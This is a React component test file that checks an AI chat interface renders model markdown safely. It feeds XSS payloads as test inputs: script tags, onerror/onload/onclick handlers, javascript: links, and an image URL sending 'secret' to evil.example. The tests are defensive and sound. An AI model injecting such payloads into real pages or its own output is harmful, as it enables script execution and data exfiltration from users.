import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { AssistantPart, isVisiblePart } from '@/components/chat/assistant-part';
import type { AgentUIMessagePart } from '@/lib/agent/messages';
import { renderInApp } from '../../agent/fixtures';

/** A global the injected markup would set if it ever ran (no underscores: see the known bug below). */
type Flags = { pwnedFlag?: unknown };

function renderText(text: string, state: 'streaming' | 'done' = 'done', messageStreaming = false) {
  const part: AgentUIMessagePart = { type: 'text', text, state };
  return renderInApp(<AssistantPart part={part} messageId="msg-1" index={0} messageStreaming={messageStreaming} isNewest />);
}

afterEach(() => {
  delete (window as Flags).pwnedFlag;
  vi.restoreAllMocks();
});

describe('markdown', () => {
  test('model text renders as markdown: emphasis, lists, headings, code', () => {
    renderText('# Plan\n\nThis is **important**.\n\n- first\n- second\n\n```ts\nconst answer = 42;\n```');

    expect(screen.getByRole('heading', { name: 'Plan' })).toBeTruthy();
    expect(screen.getByText('important').dataset.streamdown).toBe('strong');
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['first', 'second']);
    expect(screen.getByText('const answer = 42;')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Copy Code' })).toBeTruthy();
  });

  test('a streaming text part renders what has arrived so far', () => {
    renderText('Working on **it', 'streaming', true);
    expect(screen.getByText(/Working on/).textContent).toContain('Working on');
    expect(screen.getByText('it')).toBeTruthy();
  });

  test('an empty text part draws nothing and does not count as content', () => {
    const { container } = renderText('');
    expect(container.innerHTML).toBe('');
    expect(isVisiblePart({ type: 'text', text: '' })).toBe(false);
    expect(isVisiblePart({ type: 'text', text: 'hi' })).toBe(true);
  });
});

// Streamdown's incomplete-markdown repair runs only while the text streams: a finished message
// with a lone `__` (e.g. `window.__x`) must not get a closing `__` that bolds the rest of the text.
test('a finished message keeps a lone "__" as typed', () => {
  const { container } = renderText('Set window.__debug to true first.');
  expect(container.textContent).toBe('Set window.__debug to true first.');
});

describe('model text is inert', () => {
  test('a <script> tag shows as text and never becomes a script element', () => {
    const { container } = renderText('Before <script>window.pwnedFlag = true</script> after');

    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toContain('<script>window.pwnedFlag = true</script>');
    expect((window as Flags).pwnedFlag).toBeUndefined();
  });

  test('an <img onerror> (inline or as its own block) creates no image and no handler', () => {
    const { container } = renderText('inline <img src=x onerror="window.pwnedFlag=1"> here\n\n<img src="x" onerror="window.pwnedFlag=2">');

    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="window.pwnedFlag=1">');
    expect((window as Flags).pwnedFlag).toBeUndefined();
  });

  test('other raw HTML (iframe, svg onload, inline handlers, javascript: anchors) stays text', () => {
    const { container } = renderText(
      '<iframe src="https://evil.example"></iframe>\n\n<svg onload="window.pwnedFlag=3"></svg>\n\n<div onclick="window.pwnedFlag=4">click</div>\n\n<a href="javascript:alert(1)">x</a>',
    );

    for (const selector of ['iframe', 'svg[onload]', '[onclick]', 'a[href^="javascript:"]']) {
      expect(container.querySelector(selector), selector).toBeNull();
    }
    expect(container.textContent).toContain('<iframe src="https://evil.example"></iframe>');
  });

  test('a markdown javascript: link is blocked', () => {
    const { container } = renderText('[click me](javascript:window.pwnedFlag=5)');

    expect(container.querySelector('a')).toBeNull();
    expect(screen.queryByRole('button', { name: 'click me' })).toBeNull();
    expect(container.textContent).toContain('[blocked]');
  });

  test('a markdown image is not fetched: it shows as its alt text and URL', () => {
    const { container } = renderText('![tracking pixel](https://evil.example/p.png?c=secret)');

    expect(container.querySelector('img')).toBeNull();
    const placeholder = screen.getByTitle('https://evil.example/p.png?c=secret');
    expect(placeholder.textContent).toBe('tracking pixel(https://evil.example/p.png?c=secret)');
  });

  test('a link opens only after a confirmation', async () => {
    const user = userEvent.setup();
    const open = vi.spyOn(window, 'open').mockImplementation(() => null);
    renderText('See [the docs](https://example.com/docs).');

    await user.click(screen.getByRole('button', { name: 'the docs' }));
    expect(open).not.toHaveBeenCalled();
    expect(screen.getByText('Open external link?')).toBeTruthy();
    const modal = screen.getByText('https://example.com/docs');
    expect(modal).toBeTruthy();

    await user.click(within(document.body).getByRole('button', { name: 'Open link' }));
    expect(open).toHaveBeenCalledOnce();
    expect(open.mock.calls[0]?.[0]).toBe('https://example.com/docs');
  });
});
